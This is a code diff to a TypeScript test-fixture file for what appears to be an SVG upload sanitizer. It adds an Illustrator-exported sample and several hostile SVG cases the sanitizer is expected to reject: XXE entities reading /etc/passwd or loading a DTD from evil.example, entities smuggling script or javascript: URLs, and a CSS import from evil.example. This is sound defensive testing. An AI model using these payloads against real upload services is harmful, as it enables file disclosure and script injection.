@@ -20,6 +20,19 @@ export const SAFE_SVG = `<?xml version="1.0" encoding="UTF-8"?>
   <style>rect { stroke: black; }</style>
 </svg>`;
 
+/** What Illustrator writes: the SVG 1.1 DOCTYPE, namespace URIs as entities, an embedded font and a JPEG. */
+export const ILLUSTRATOR_SVG = `<?xml version="1.0" encoding="utf-8"?>
+<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
+	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
+	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
+	<!ENTITY ns_svg "http://www.w3.org/2000/svg">
+]>
+<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns="&ns_svg;" width="120px" height="80px" viewBox="0 0 120 80">
+<style type="text/css">@font-face { font-family: Brand; src: url(data:font/woff2;base64,d09GMgABAAAAAA==) format("woff2"); }</style>
+<rect width="120" height="80" fill="#0a0"/><image width="1" height="1" href="data:image/jpg;base64,/9j/4AAQ"/>
+</svg>`;
+
 function psd(width: number, height: number): Buffer {
   const header = Buffer.alloc(26);
   header.write('8BPS', 0, 'latin1');
@@ -108,6 +121,7 @@ export async function acceptedSamples(): Promise<Sample[]> {
     { name: 'anim.gif', format: 'gif', bytes: await picture().gif().toBuffer(), preview: true, width: 64, height: 48 },
     { name: 'scan.tiff', format: 'tiff', bytes: await picture().tiff().toBuffer(), preview: true, width: 64, height: 48 },
     { name: 'vector.svg', format: 'svg', bytes: Buffer.from(SAFE_SVG), preview: true, width: 120, height: 80 },
+    { name: 'illustrator.svg', format: 'svg', bytes: Buffer.from(ILLUSTRATOR_SVG), preview: true, width: 120, height: 80 },
     { name: 'print.pdf', format: 'pdf', bytes: latin1(PDF), preview: false, width: null, height: null },
     {
       name: 'design.ai',
@@ -147,7 +161,10 @@ export const UNSAFE_SVGS: [string, string][] = [
   ['css import', '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/a.css";</style></svg>'],
   ['foreignObject', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject></svg>'],
   ['external entity', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'],
-  ['doctype', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'],
+  ['parameter entity', '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"/>'],
+  ['entity holding markup', '<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&s;</svg>'],
+  ['entity spelling a script URL', '<!DOCTYPE svg [<!ENTITY j "javascript">]><svg xmlns="http://www.w3.org/2000/svg"><a href="&j;:alert(1)"><rect width="1" height="1"/></a></svg>'],
+  ['DOCTYPE after the root', '<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg><rect width="1" height="1"/></svg>'],
   ['set to javascript', '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/><rect width="1" height="1"/></a></svg>'],
   ['iframe', '<svg xmlns="http://www.w3.org/2000/svg"><iframe src="https://evil.example"/></svg>'],
   // A namespace prefix may hold dots; animation can set a link after the check read it.
